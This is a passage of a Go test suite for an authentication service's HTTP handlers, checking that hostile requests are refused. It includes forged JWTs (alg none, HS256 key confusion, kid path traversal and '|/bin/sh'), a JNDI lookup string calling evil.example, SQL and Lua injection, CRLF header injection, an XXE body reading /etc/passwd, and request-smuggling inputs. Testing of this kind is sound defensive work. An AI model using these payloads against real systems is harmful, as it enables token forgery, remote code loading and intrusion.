package handlers_test

import (
	"bufio"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/latchkey-auth/latchkey/handlers"
)

// hostileTokens are access tokens that must be refused, made from one that is not.
func (f *fleet) hostileTokens(s tokens) map[string]string {
	f.Helper()
	head, claims := f.header(), mustDecode(f, strings.Split(s.access, ".")[1])
	public := f.key.Public().(ed25519.PublicKey)
	now := time.Now().Unix()
	unsigned := func(header string) string { return b64(header) + "." + b64(claims) + "." }
	hmacOf := func(header string, key []byte) string {
		signed := b64(header) + "." + b64(claims)
		mac := hmac.New(sha256.New, key)
		mac.Write([]byte(signed))
		return signed + "." + b64(string(mac.Sum(nil)))
	}
	_, stranger, err := ed25519.GenerateKey(rand.Reader)
	f.check(err)
	strangers := b64(head) + "." + b64(claims)
	strangers += "." + b64(string(ed25519.Sign(stranger, []byte(strangers))))

	list := map[string]string{
		"the fleet's own form, broken": s.access + "A",
		"alg none":                     unsigned(fmt.Sprintf(`{"alg":"none","kid":%q,"typ":"at+jwt"}`, f.kid)),
		"alg None":                     unsigned(fmt.Sprintf(`{"alg":"None","kid":%q,"typ":"at+jwt"}`, f.kid)),
		"alg none, signed":             f.sign(fmt.Sprintf(`{"alg":"none","kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"alg empty":                    f.sign(fmt.Sprintf(`{"alg":"","kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"no alg":                       f.sign(fmt.Sprintf(`{"kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"alg a list":                   f.sign(fmt.Sprintf(`{"alg":["EdDSA"],"kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"HS256 under the public key":   hmacOf(fmt.Sprintf(`{"alg":"HS256","kid":%q,"typ":"at+jwt"}`, f.kid), public),
		"HS256 under the kid":          hmacOf(fmt.Sprintf(`{"alg":"HS256","kid":%q,"typ":"at+jwt"}`, f.kid), []byte(f.kid)),
		"HS256 under nothing":          hmacOf(fmt.Sprintf(`{"alg":"HS256","kid":%q,"typ":"at+jwt"}`, f.kid), nil),
		"ES256 with an Ed25519 key":    f.sign(fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"RS256 with an Ed25519 key":    f.sign(fmt.Sprintf(`{"alg":"RS256","kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"a stranger's signature":       strangers,
		"no signature":                 s.access[:strings.LastIndexByte(s.access, '.')+1],
		"no last dot":                  s.access[:strings.LastIndexByte(s.access, '.')],
		"crit":                         f.sign(fmt.Sprintf(`{"alg":"EdDSA","kid":%q,"typ":"at+jwt","crit":["exp"]}`, f.kid), claims),
		"crit of nothing":              f.sign(fmt.Sprintf(`{"alg":"EdDSA","kid":%q,"typ":"at+jwt","crit":[]}`, f.kid), claims),
		"typ JWT":                      f.sign(fmt.Sprintf(`{"alg":"EdDSA","kid":%q,"typ":"JWT"}`, f.kid), claims),
		"typ absent":                   f.sign(fmt.Sprintf(`{"alg":"EdDSA","kid":%q}`, f.kid), claims),
		"jku to a stranger's keys":     strings.Replace(strangers, b64(head), b64(fmt.Sprintf(`{"alg":"EdDSA","kid":%q,"typ":"at+jwt","jku":"https://evil.example/jwks.json"}`, f.kid)), 1),
		"a header of two algs":         f.sign(fmt.Sprintf(`{"alg":"EdDSA","alg":"none","kid":%q,"typ":"at+jwt"}`, f.kid), claims),
		"a header that is no object":   f.sign(`"EdDSA"`, claims),
		"a header that is empty":       f.sign(``, claims),
		"claims that are no object":    f.sign(head, `[]`),
		"claims that are empty":        f.sign(head, `{}`),
		"a claim twice":                f.sign(head, strings.Replace(claims, `{`, `{"sub":"root",`, 1)),
		"expired":                      f.sign(head, f.payload(s.access, map[string]any{"iat": now - 1000, "exp": now - 1})),
		"expires now":                  f.sign(head, f.payload(s.access, map[string]any{"iat": now - 900, "exp": now})),
		"no exp":                       f.sign(head, f.payload(s.access, map[string]any{"exp": nil})),
		"exp a string":                 f.sign(head, f.payload(s.access, map[string]any{"exp": "9999999999"})),
		"exp beyond time":              f.sign(head, strings.Replace(claims, `"exp":`, `"exp":9223372036854775808,"was":`, 1)),
		"not yet: iat":                 f.sign(head, f.payload(s.access, map[string]any{"iat": now + 60})),
		"not yet: nbf":                 f.sign(head, f.payload(s.access, map[string]any{"nbf": now + 60})),
		"another issuer":               f.sign(head, f.payload(s.access, map[string]any{"iss": "https://evil.example"})),
		"the issuer with a slash":      f.sign(head, f.payload(s.access, map[string]any{"iss": issuer + "/"})),
		"no issuer":                    f.sign(head, f.payload(s.access, map[string]any{"iss": nil})),
		"another audience":             f.sign(head, f.payload(s.access, map[string]any{"aud": "https://other.example"})),
		"no audience":                  f.sign(head, f.payload(s.access, map[string]any{"aud": []string{}})),
		"no sid":                       f.sign(head, f.payload(s.access, map[string]any{"sid": nil})),
		"a sid that is no id":          f.sign(head, f.payload(s.access, map[string]any{"sid": "../../head"})),
		"a jti that is no id":          f.sign(head, f.payload(s.access, map[string]any{"jti": "{0}:head"})),
		"a jti of another shard":       f.sign(head, f.payload(s.access, map[string]any{"jti": strings.Repeat("_", 21) + "w"})),
		"another history":              f.sign(head, f.payload(s.access, map[string]any{"le": "AAAAAAAAAAA"})),
		"no history":                   f.sign(head, f.payload(s.access, map[string]any{"le": nil})),
		"a negative epoch":             f.sign(head, f.payload(s.access, map[string]any{"ue": -1})),
		"too long":                     f.sign(head, f.payload(s.access, map[string]any{"pad": strings.Repeat("x", 4096)})),
		"three dots":                   "...",
		"two dots":                     "..",
		"a dot":                        ".",
		"four segments":                s.access + ".e30",
		"five segments (JWE)":          s.access + ".e30.e30",
		"padding":                      s.access + "=",
		"standard base64":              strings.ReplaceAll(strings.ReplaceAll(s.access, "-", "+"), "_", "/") + "+",
		"a space within":               strings.Replace(s.access, ".", ". ", 1),
		"a token of the other kind":    s.refresh,
		"an object":                    "{}",
		"4096 dots":                    strings.Repeat(".", 4096),
	}
	for name, kid := range map[string]string{
		"traversal": "../../../../etc/passwd", "SQL": "' OR '1'='1", "NUL": "a\u0000b", "empty": "", "a URL": "https://evil.example/key",
		"a command": "|/bin/sh", "the active key's name in Redis": "active", "very long": strings.Repeat("k", 2000),
	} {
		list["kid: "+name] = f.sign(fmt.Sprintf(`{"alg":"EdDSA","kid":%s,"typ":"at+jwt"}`, toJSON(f, kid)), claims)
	}
	return list
}

func TestHostileAccessTokens(t *testing.T) {
	t.Parallel()
	f := usual(t)
	s := f.refresh(1, f.login(0))
	hostile := f.hostileTokens(s)
	before := f.session(s.access)
	for name, token := range hostile {
		f.secrets.add(token)
		for _, r := range []struct{ method, path string }{
			{"GET", "/auth/verify"},
			{"GET", "/users/me"},
			{"GET", "/auth/sessions"},
			{"DELETE", "/auth/sessions/" + f.claim(s.access, "sid")},
			{"POST", "/auth/logout-all"},
			{"POST", "/users/me/password"},
		} {
			a := f.do(0, r.method, r.path, bearer(token))
			if a.status != http.StatusUnauthorized || a.member("error") != "invalid_token" {
				t.Errorf("%s: %s %s: got %d %s", name, r.method, r.path, a.status, a.text)
			}
		}
	}
	if after := f.session(s.access); fmt.Sprint(after) != fmt.Sprint(before) {
		t.Error("the session changed")
	}
	f.alive(s.access)

	// A logout ends the sessions of true tokens alone. What was signed by the
	// service is true, though it is too old or too young, for somebody else, or of an
	// earlier LATCHKEY_ISSUER.
	for name, token := range hostile {
		if strings.HasPrefix(name, "expire") || strings.HasPrefix(name, "not yet") || strings.HasSuffix(name, "history") ||
			name == "another audience" || name == "another issuer" || name == "the issuer with a slash" {
			continue
		}
		// One whose key nobody has is no 200: it names a session that is alive.
		if a := f.post(1, "/auth/logout", bearer(token)); a.status != http.StatusOK {
			a.notEnded()
		}
		if f.get(2, "/auth/verify", bearer(s.access)).status != http.StatusNoContent {
			t.Fatalf("%s: ended the session", name)
		}
	}
	// The positive control: the same making, without the fault.
	f.get(0, "/auth/verify", bearer(f.sign(f.header(), f.payload(s.access, nil)))).is(http.StatusNoContent)
	for _, header := range []string{
		fmt.Sprintf(`{"typ":"application/at+jwt","kid":%q,"alg":"EdDSA"}`, f.kid),
		fmt.Sprintf(`{"typ":"AT+JWT","kid":%q,"alg":"EdDSA","jku":"https://evil.example/jwks.json","jwk":{},"x5u":"https://evil.example"}`, f.kid),
	} {
		f.get(0, "/auth/verify", bearer(f.sign(header, f.payload(s.access, nil)))).is(http.StatusNoContent)
	}
	f.get(0, "/auth/verify", bearer(f.sign(f.header(), f.payload(s.access, map[string]any{"aud": []string{"https://other.example", audience}})))).is(http.StatusNoContent)
}

const base64url = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// Each token has one spelling: no bit can be changed, not even one that decodes
// to nothing.
func TestEveryCharacterCounts(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1})
	s := f.login(0)
	// Over the handler, not the network: there are many.
	h := f.replicas[0].handler
	refused := func(what string, r *http.Request) {
		if w := record(h, r); w.Code != http.StatusUnauthorized {
			t.Fatalf("%s: got %d, want 401", what, w.Code)
		}
	}
	flip := func(token string, i int, c byte) string { return token[:i] + string(c) + token[i+1:] }
	for _, end := range []int{len(s.access), strings.LastIndexByte(s.access, '.'), strings.IndexByte(s.access, '.')} {
		for _, c := range []byte(base64url) {
			if c != s.access[end-1] {
				refused("access token, last of a segment "+string(c), request(t, "GET", "/auth/verify", bearer(flip(s.access, end-1, c))))
			}
		}
	}
	for i := range s.access {
		refused("access token, character "+fmt.Sprint(i), request(t, "GET", "/auth/verify", bearer(flip(s.access, i, other(s.access[i])))))
		refused("access token, cut at "+fmt.Sprint(i), request(t, "GET", "/auth/verify", bearer(s.access[:i])))
	}
	for _, c := range []byte(base64url) {
		if last := len(s.refresh) - 1; c != s.refresh[last] {
			refused("refresh token, last "+string(c), request(t, "POST", "/auth/refresh", cookie(flip(s.refresh, last, c))))
		}
	}
	for i := range s.refresh {
		refused("refresh token, character "+fmt.Sprint(i), request(t, "POST", "/auth/refresh", cookie(flip(s.refresh, i, other(s.refresh[i])))))
		refused("refresh token, cut at "+fmt.Sprint(i), request(t, "POST", "/auth/refresh", cookie(s.refresh[:i])))
	}
	for name, token := range map[string]string{
		"longer": s.refresh + "A", "padded": s.refresh + "=", "twice": s.refresh + s.refresh, "upper case": strings.ToUpper(s.refresh),
		"another version": "lkr2_" + s.refresh[5:], "no prefix": s.refresh[5:],
	} {
		refused("refresh token, "+name, request(t, "POST", "/auth/refresh", cookie(token)))
		refused("refresh token, "+name, request(t, "POST", "/auth/refresh", form("refresh_token", token)))
	}
	f.alive(s.access)
	f.refresh(0, s)
}

func other(c byte) byte {
	if c == 'A' {
		return 'B'
	}
	return 'A'
}

// bodyOf reads a request's body.
func bodyOf(r *http.Request) string {
	text, _ := io.ReadAll(r.Body)
	return string(text)
}

// Every input is given what breaks other programs.
func TestHostileInputs(t *testing.T) {
	t.Parallel()
	f := usual(t)
	s, client := f.login(0), f.service("hostile")
	nasty := map[string]string{
		"CRLF": "\r\n", "CRLF within": "a\r\nX-Evil: 1", "NUL": "\x00", "NUL within": "a\x00b", "object": "{}", "list": "[]", "not UTF-8": "\xff\xfe",
		"SQL": "' OR '1'='1", "Lua": "'..redis.call('FLUSHALL')..'", "traversal": "../../../etc/passwd", "template": "${jndi:ldap://evil.example}",
		"hash tag": "{0}:head", "glob": "*", "long": strings.Repeat("x", 5000), "null": "null", "bidi": "\u202eroot", "format": "%s%n%d",
	}
	invalidName := map[string]bool{"CRLF": true, "CRLF within": true, "NUL": true, "NUL within": true, "not UTF-8": true, "long": true, "bidi": true}
	ifIn := func(set map[string]bool, name string, yes, no int) int {
		if set[name] {
			return yes
		}
		return no
	}
	tooLong := map[string]bool{"long": true}
	for name, v := range nasty {
		for _, c := range []struct {
			input        string
			method, path string
			options      []option
			want         int
		}{
			{"username", "POST", "/auth/token", []option{form("username", v, "password", "wrong")}, ifIn(invalidName, name, 400, 401)},
			{"password", "POST", "/auth/token", []option{form("username", alice, "password", v)}, ifIn(tooLong, name, 400, 401)},
			{"scope", "POST", "/auth/token", []option{form("username", alice, "password", password, "scope", v)}, 400},
			{"grant_type", "POST", "/auth/token", []option{form("username", alice, "password", password, "grant_type", v)}, 400},
			{"refresh_delivery", "POST", "/auth/token", []option{form("username", alice, "password", password, "refresh_delivery", v)}, 400},
			{"an unknown parameter", "POST", "/auth/token", []option{form("username", alice, "password", "wrong", v, v)}, 401},
			{"refresh_token", "POST", "/auth/refresh", []option{form("refresh_token", v)}, 401},
			{"refresh_token in JSON", "POST", "/auth/refresh", []option{jsonBody(toJSON(t, map[string]string{"refresh_token": v}))}, 401},
			{"refresh_token at logout", "POST", "/auth/logout", []option{form("refresh_token", v)}, 200},
			{"sid", "DELETE", "/auth/sessions/" + url.PathEscape(v), []option{bearer(s.access)}, 404},
			{"except_current", "POST", "/auth/logout-all", []option{bearer(s.access), form("except_current", v)}, 400},
			{"except_current in the query", "POST", "/auth/logout-all?except_current=" + url.QueryEscape(v), []option{bearer(s.access)}, 400},
			{"current_password", "POST", "/users/me/password", []option{bearer(s.access), form("current_password", v, "new_password", "another-password")}, ifIn(tooLong, name, 400, 403)},
			{"a body of its own", "POST", "/auth/logout", []option{jsonBody(v)}, ifIn(map[string]bool{"object": true}, name, 200, 400)},
			{"content type", "POST", "/auth/token", []option{body(strings.Map(printable, v)+"/x", "a=b")}, 415},
			{"query", "POST", "/auth/token?username=" + url.QueryEscape(v), []option{form("username", alice, "password", "wrong")}, 401},
			{"request id", "GET", "/auth/verify", []option{header("X-Request-Id", strings.Map(printable, v))}, 401},
			{"cookie", "POST", "/auth/refresh", []option{cookie(strings.Map(printable, v))}, 401},
			{"device", "POST", "/auth/token", []option{known(strings.Map(printable, v)), form("username", alice, "password", "wrong")}, 401},
			{"grant_type at /oauth2", "POST", "/oauth2/token", []option{client.basic(), form("grant_type", v)}, 400},
			{"scope at /oauth2", "POST", "/oauth2/token", []option{client.basic(), form("grant_type", "client_credentials", "scope", v)}, 400},
			{"refresh_token at /oauth2", "POST", "/oauth2/token", []option{client.basic(), form("grant_type", "refresh_token", "refresh_token", v)}, 400},
			{"client_id", "POST", "/oauth2/token", []option{form("grant_type", "client_credentials", "client_id", v, "client_secret", v)}, 401},
			{"client_id of ours", "POST", "/oauth2/token", []option{registered{"lkc_" + v, v}.basic(), form("grant_type", "client_credentials")}, 401},
			{"client_secret", "POST", "/oauth2/token", []option{registered{client.id, v}.post("grant_type", "client_credentials")}, 401},
			{"Authorization", "POST", "/oauth2/token", []option{header("Authorization", "Basic "+strings.Map(printable, v)), form("grant_type", "client_credentials")}, 401},
			{"client_id at login", "POST", "/auth/token", []option{form("username", alice, "password", "wrong", "client_id", v, "client_secret", v)}, 401},
			{"token at introspection", "POST", "/oauth2/introspect", []option{client.basic(), form("token", v)}, 200},
			{"token_type_hint at introspection", "POST", "/oauth2/introspect", []option{client.basic(), form("token", s.access, "token_type_hint", v)}, 200},
			{"token at revocation", "POST", "/oauth2/revoke", []option{client.basic(), form("token", v)}, 200},
			{"token_type_hint at revocation", "POST", "/oauth2/revoke", []option{client.basic(), form("token", "garbage", "token_type_hint", v)}, 200},
			{"X-Forwarded-For", "POST", "/auth/token", []option{header("X-Forwarded-For", strings.Map(printable, v)), form("username", alice, "password", "wrong")}, 401},
		} {
			a, err := f.try(0, c.method, c.path, c.options...)
			f.check(err)
			if inForm := request(t, c.method, c.path, c.options...); name == "not UTF-8" && strings.Contains(bodyOf(inForm), url.QueryEscape(v)) {
				c.want = http.StatusBadRequest // which no form may hold
			}
			if a.status != c.want {
				t.Errorf("%s = %s: got %d, want %d\n%s", c.input, name, a.status, c.want, a.text)
				continue
			}
			a.proper()
			if got := a.header.Get("X-Evil"); got != "" {
				t.Errorf("%s = %s: an injected header", c.input, name)
			}
		}
	}
	f.alive(s.access)
	f.refresh(0, s)
	// The user agent is kept and shown: as a harmless text.
	for _, v := range nasty {
		u := strings.Map(printable, v)
		if u == "" {
			continue
		}
		f.post(1, "/auth/token", header("User-Agent", u), form("username", alice, "password", password)).is(http.StatusOK)
		f.post(1, "/auth/token", header("User-Agent", "Mozilla/5.0 "+u), form("username", alice, "password", password)).is(http.StatusOK)
	}
	for _, e := range f.sessions(s.access) {
		if len(e.Device) > 64 {
			t.Errorf("a device of %d bytes", len(e.Device))
		}
	}
	f.secrets.add(nasty["CRLF within"])
}

// printable leaves what a header value may hold.
func printable(r rune) rune {
	if r < ' ' || r == 0x7f || r == '\ufffd' {
		return -1
	}
	return r
}

// Bodies that are no form and no object of strings.
func TestHostileBodies(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1})
	credentials := `"username":"alice","password":"` + password + `"`
	for _, c := range []struct {
		name, contentType, text string
		want                    int
	}{
		{"JSON", "application/json", `{` + credentials + `}`, 200},
		{"JSON with a charset", "Application/JSON; charset=utf-8", `{` + credentials + `}`, 200},
		{"JSON with white space", "application/json", " \r\n{" + credentials + "}\n", 200},
		{"JSON with another member", "application/json", `{` + credentials + `,"remember":true,"note":null}`, 200},
		{"JSON, a member twice", "application/json", `{` + credentials + `,"username":"root"}`, 400},
		{"JSON, a member twice, escaped", "application/json", `{` + credentials + `,"\u0075sername":"root"}`, 400},
		{"JSON, a list as value", "application/json", `{"username":["alice"],"password":"x"}`, 400},
		{"JSON, a number as value", "application/json", `{"username":1,"password":"x"}`, 400},
		{"JSON, a huge number", "application/json", `{"username":1e999999,"password":"x"}`, 400},
		{"JSON, an object as value", "application/json", `{"username":{"$gt":""},"password":{"$gt":""}}`, 400},
		{"JSON, data after it", "application/json", `{` + credentials + `}{}`, 400},
		{"JSON, garbage after it", "application/json", `{` + credentials + `}x`, 400},
		{"JSON, a list", "application/json", `[{` + credentials + `}]`, 400},
		{"JSON, a string", "application/json", `"alice"`, 400},
		{"JSON, null", "application/json", `null`, 400},
		{"JSON, not ended", "application/json", `{` + credentials, 400},
		{"JSON, no comma", "application/json", `{"username":"alice" "password":"x"}`, 400},
		{"JSON, a comma too many", "application/json", `{` + credentials + `,}`, 400},
		{"JSON, single quotes", "application/json", `{'username':'alice'}`, 400},
		{"JSON, a key without quotes", "application/json", `{username:"alice"}`, 400},
		{"JSON, a comment", "application/json", `{/**/` + credentials + `}`, 400},
		{"JSON, deep", "application/json", strings.Repeat(`{"a":`, 3000), 400},
		{"JSON, deep lists", "application/json", `{"a":` + strings.Repeat(`[`, 16000), 400},
		{"JSON, white space alone", "application/json", "   ", 400},
		{"JSON as a form", "application/x-www-form-urlencoded", `{` + credentials + `}`, 400},
		{"a form as JSON", "application/json", "username=alice&password=x", 400},
		{"a form", "application/x-www-form-urlencoded; charset=utf-8", "username=alice&password=" + password, 200},
		{"a form, other case", "Application/X-WWW-Form-Urlencoded", "username=alice&password=" + password, 200},
		{"a form, semicolons", "application/x-www-form-urlencoded", "username=alice;password=x", 400},
		{"a form, bad escape", "application/x-www-form-urlencoded", "username=%zz&password=x", 400},
		{"a form, a parameter twice", "application/x-www-form-urlencoded", "username=alice&password=x&password=y", 400},
		{"a form, the same twice", "application/x-www-form-urlencoded", "username=alice&username=alice&password=x", 400},
		{"a form, PHP style", "application/x-www-form-urlencoded", "username[]=alice&password=x", 400},
		{"a form, many parameters", "application/x-www-form-urlencoded", strings.Repeat("a=&", 5000) + "username=alice&password=x", 400},
		{"no type", "", "username=alice&password=x", 415},
		{"a broken type", "application/", "username=alice&password=x", 415},
		{"text", "text/plain", `{` + credentials + `}`, 415},
		{"multipart", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"username\"\r\n\r\nalice\r\n--x--", 415},
		{"XML", "application/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, 415},
		{"JSON by another name", "application/vnd.api+json", `{` + credentials + `}`, 415},
		{"gzip", "application/gzip", "\x1f\x8b\x08", 415},
	} {
		a, err := f.try(0, http.MethodPost, "/auth/token", body(c.contentType, c.text))
		f.check(err)
		if a.status != c.want {
			t.Errorf("%s: got %d, want %d\n%s", c.name, a.status, c.want, a.text)
			continue
		}
		a.proper()
	}
}

// Requests that no HTTP library would send.
func TestRawRequests(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1})
	// The answer comes at once. What the client then leaves unsaid is waited for:
	// here not as long as by the program.
	addr := f.hurried(time.Second, time.Second)
	s := f.login(0)
	host := "Host: latchkey\r\nConnection: close\r\n"
	post := func(path, rest string) string { return "POST " + path + " HTTP/1.1\r\n" + host + rest }
	formType := "Content-Type: application/x-www-form-urlencoded\r\n"
	for _, c := range []struct{ name, text, want string }{
		{"fine", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer " + s.access + "\r\n\r\n", "204 No Content"},
		{"100 kB of dots", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer " + strings.Repeat(".", 100_000) + "\r\n\r\n", "431 Request Header Fields Too Large"},
		{"100 kB of cookies", post("/auth/refresh", "Cookie: "+strings.Repeat("refresh_token=x; ", 6000)+"\r\n\r\n"), "431 Request Header Fields Too Large"},
		{"12 kB of dots", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer " + strings.Repeat(".", 12_000) + "\r\n\r\n", "401 Unauthorized"},
		{"12 kB of cookies", post("/auth/refresh", "Cookie: "+strings.Repeat("refresh_token=x; ", 700)+"\r\n\r\n"), "401 Unauthorized"},
		{"CR LF in a cookie", post("/auth/refresh", "Cookie: refresh_token=a\r\nX-Evil: 1\r\n\r\n"), "401 Unauthorized"},
		{"bare CR in a cookie", post("/auth/refresh", "Cookie: refresh_token=a\rb\r\n\r\n"), "400 Bad Request"},
		{"NUL in a cookie", post("/auth/refresh", "Cookie: refresh_token=a\x00b\r\n\r\n"), "400 Bad Request"},
		{"NUL in Authorization", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer a\x00b\r\n\r\n", "400 Bad Request"},
		{"NUL in a request id", "GET /auth/verify HTTP/1.1\r\n" + host + "X-Request-Id: a\x00b\r\n\r\n", "400 Bad Request"},
		{"NUL in the path", "GET /auth/\x00 HTTP/1.1\r\n" + host + "\r\n", "400 Bad Request"},
		{"NUL in the path, escaped", "GET /auth/%00 HTTP/1.1\r\n" + host + "\r\n", "404 Not Found"},
		{"a header folded", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer\r\n x\r\n\r\n", "401 Unauthorized"},
		{"a space before the colon", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization : Bearer x\r\n\r\n", "400 Bad Request"},
		{"no Host", "GET /auth/verify HTTP/1.1\r\nConnection: close\r\n\r\n", "400 Bad Request"},
		{"two Hosts", "GET /auth/verify HTTP/1.1\r\n" + host + "Host: other\r\n\r\n", "400 Bad Request"},
		{"two Authorizations", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer " + s.access + "\r\nAuthorization: Bearer x\r\n\r\n", "400 Bad Request"},
		{"two Authorizations at logout", post("/auth/logout", "Authorization: Bearer "+s.access+"\r\nauthorization: Bearer x\r\n\r\n"), "400 Bad Request"},
		{"Bearer alone", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer\r\n\r\n", "401 Unauthorized"},
		{"bearer in lower case, two spaces", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: bearer  " + s.access + "\r\n\r\n", "204 No Content"},
		{"a tab for the space", "GET /auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer\t" + s.access + "\r\n\r\n", "401 Unauthorized"},
		{"two lengths", post("/auth/logout", formType+"Content-Length: 3\r\nContent-Length: 4\r\n\r\na=b"), "400 Bad Request"},
		{"a length and chunks", post("/auth/logout", formType+"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), "200 OK"},
		{"a negative length", post("/auth/logout", formType+"Content-Length: -1\r\n\r\n"), "400 Bad Request"},
		{"another transfer encoding", post("/auth/logout", formType+"Transfer-Encoding: gzip\r\n\r\n"), "501 Not Implemented"},
		{"a chunk that is none", post("/auth/logout", formType+"Transfer-Encoding: chunked\r\n\r\nzz\r\na=b\r\n0\r\n\r\n"), "400 Bad Request"},
		{"a chunk length that overflows", post("/auth/logout", formType+"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n"), "400 Bad Request"},
		{"chunks without end", post("/auth/token", formType+"Transfer-Encoding: chunked\r\n\r\n"+strings.Repeat("400\r\n"+strings.Repeat("a", 1024)+"\r\n", 64)), "413 Request Entity Too Large"},
		{"another protocol", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "400 Bad Request"},
		{"no method", " /auth/verify HTTP/1.1\r\n" + host + "\r\n", "400 Bad Request"},
		{"HTTP/9", "GET /auth/verify HTTP/9.9\r\n" + host + "\r\n", "505 HTTP Version Not Supported"},
		{"an absolute URL", "GET http://evil.example/auth/verify HTTP/1.1\r\n" + host + "Authorization: Bearer " + s.access + "\r\n\r\n", "204 No Content"},
		{"CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\n" + host + "\r\n", "404 Not Found"},
	} {
		status, all := f.raw(addr, c.text)
		if want := "HTTP/1.1 " + c.want; status != want && !strings.HasPrefix(status, want+": ") {
			t.Errorf("%s: got %q, want %q", c.name, status, want)
		}
		if strings.Contains(string(all), "X-Evil") {
			t.Errorf("%s: an injected header", c.name)
		}
	}
	f.alive(s.access)
	f.refresh(0, s)
}

// 10 MB: refused after the first of it, and the connection is closed, whatever
// the endpoint does with bodies.
func TestHugeBodies(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1})
	s := f.login(0)
	const huge = 10 << 20
	for _, c := range []struct{ method, path, headers, want string }{
		{"POST", "/auth/token", "", "413 Request Entity Too Large"},
		{"POST", "/auth/refresh", "Cookie: refresh_token=" + s.refresh + "\r\n", "413 Request Entity Too Large"},
		{"POST", "/auth/logout", "Cookie: refresh_token=" + s.refresh + "\r\n", "413 Request Entity Too Large"},
		{"POST", "/auth/logout-all", "Authorization: Bearer " + s.access + "\r\n", "413 Request Entity Too Large"},
		{"POST", "/users/me/password", "Authorization: Bearer " + s.access + "\r\n", "413 Request Entity Too Large"},
		{"GET", "/auth/verify", "Authorization: Bearer " + s.access + "\r\n", "204 No Content"},
		{"POST", "/nowhere", "", "404 Not Found"},
	} {
		conn, err := net.Dial("tcp", f.replicas[0].addr)
		f.check(err)
		f.check(conn.SetDeadline(time.Now().Add(20 * time.Second)))
		sent := make(chan int64)
		go func() {
			_, _ = fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: latchkey\r\nContent-Type: application/x-www-form-urlencoded\r\n%sContent-Length: %d\r\n\r\n", c.method, c.path, c.headers, huge)
			n, _ := io.CopyN(conn, endless{}, huge) // the server may close before
			sent <- n
		}()
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatalf("%s: %v", c.path, err)
		}
		if got := strings.TrimPrefix(resp.Status, "HTTP/1.1 "); got != c.want {
			t.Errorf("%s: got %q, want %q", c.path, got, c.want)
		}
		_ = resp.Body.Close()
		n := <-sent // ends only because the server closes
		if n == huge {
			t.Errorf("%s: the server took all of it", c.path)
		}
		_ = conn.Close()
	}
	f.alive(s.access)
	f.refresh(0, s)
}

type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	return len(p), nil
}

// hurried serves a replica's API once more, with less patience for slow clients.
func (f *fleet) hurried(headers, all time.Duration) (addr string) {
	srv := httptest.NewUnstartedServer(f.replicas[0].handler)
	limits(srv.Config)
	srv.Config.ReadHeaderTimeout, srv.Config.ReadTimeout = headers, all
	srv.Start()
	f.Cleanup(srv.Close)
	return srv.Listener.Addr().String()
}

// A client that sends its headers or its body slowly is let go.
func TestSlowClients(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1})
	addr := f.hurried(100*time.Millisecond, 200*time.Millisecond)
	if status, all := f.raw(addr, "GET /auth/verify HTTP/1.1\r\nHost: latchkey\r\nX-Slow: "); len(all) != 0 {
		t.Errorf("half a header was answered: %q", status)
	}
	if status, _ := f.raw(addr, "POST /auth/token HTTP/1.1\r\nHost: latchkey\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nusername="); status != "HTTP/1.1 400 Bad Request" {
		t.Errorf("half a body: got %q, want 400", status)
	}
	// A client that gives up in the middle is no error of the service.
	conn, err := net.Dial("tcp", addr)
	f.check(err)
	_, err = io.WriteString(conn, "POST /auth/token HTTP/1.1\r\nHost: latchkey\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nusername=")
	f.check(err)
	f.check(conn.(*net.TCPConn).CloseWrite())
	all, err := io.ReadAll(conn)
	f.check(err)
	_ = conn.Close()
	if !strings.HasPrefix(string(all), "HTTP/1.1 400 ") {
		t.Errorf("a body cut off: %q", all)
	}
	if strings.Contains(f.log.String(), "request failed") {
		t.Error("what clients do is logged as an error of the service")
	}
}

func TestRequestID(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1})
	for _, id := range []string{"a", "0af7651916cd43dd8448eb211c80319c", "A.b_c-1", strings.Repeat("x", 64)} {
		if got := f.get(0, "/auth/verify", header("X-Request-Id", id)).header.Get("X-Request-Id"); got != id {
			t.Errorf("%q came back as %q", id, got)
		}
	}
	made := map[string]bool{}
	for _, id := range []string{"", " ", "a b", "a;b", "<script>", `a"b`, "a\tb", "é", strings.Repeat("x", 65), "../x", "{}", "a,b", "a=b"} {
		a := f.get(0, "/auth/verify", header("X-Request-Id", id))
